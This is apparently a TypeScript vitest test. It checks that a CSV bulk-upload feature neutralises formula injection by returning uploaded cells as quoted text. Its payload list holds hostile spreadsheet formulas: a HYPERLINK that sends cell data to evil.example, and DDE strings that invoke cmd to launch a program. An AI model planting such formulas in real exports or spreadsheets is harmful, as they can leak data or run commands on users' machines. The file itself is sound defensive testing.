import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { type Harness, startHarness } from '../support/harness.js';
import { confirm, uploadCsv } from './support.js';

let h: Harness;
afterEach(async () => h?.stop());

/** What a quoted CSV field holds for this text. */
const field = (text: string) => `"${text.replace(/"/g, '""')}"`;

describe('the bulk results file', () => {
  it('hands every uploaded cell back as text, never as a spreadsheet formula', async () => {
    h = await startHarness();
    const payloads = ['=HYPERLINK("https://evil.example/?d="&A1,"Details")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|x'];
    const csv = [
      'customer,phone_number,display_name',
      'main,+14155550100,Acme Store',
      ...payloads.map((p) => `main,${field(p)},Acme Store`),
      `${field('=1+1')},+14155550101,Acme Store`,
    ].join('\n');
    const { viewId, view } = await uploadCsv(h, csv);
    expect(JSON.stringify(view.blocks)).toContain('*1 ready*, *6 refused*');
    await confirm(h, viewId);
    await h.drainQueue();
    await h.waitFor(() => h.slack.uploads.size > 0);

    const rows = parse([...h.slack.uploads.values()].at(-1)!.content) as string[][];
    expect(rows[0]).toEqual(['row', 'number', 'sender_sid', 'final_status', 'error']);
    expect(rows).toHaveLength(8);
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas).toEqual([]);
    const numbers = rows.slice(1).map((r) => r[1]);
    expect(numbers).toEqual(["'+14155550100", ...payloads.map((p) => `'${p.slice(0, 40)}`), "'+14155550101"]);
  });
});
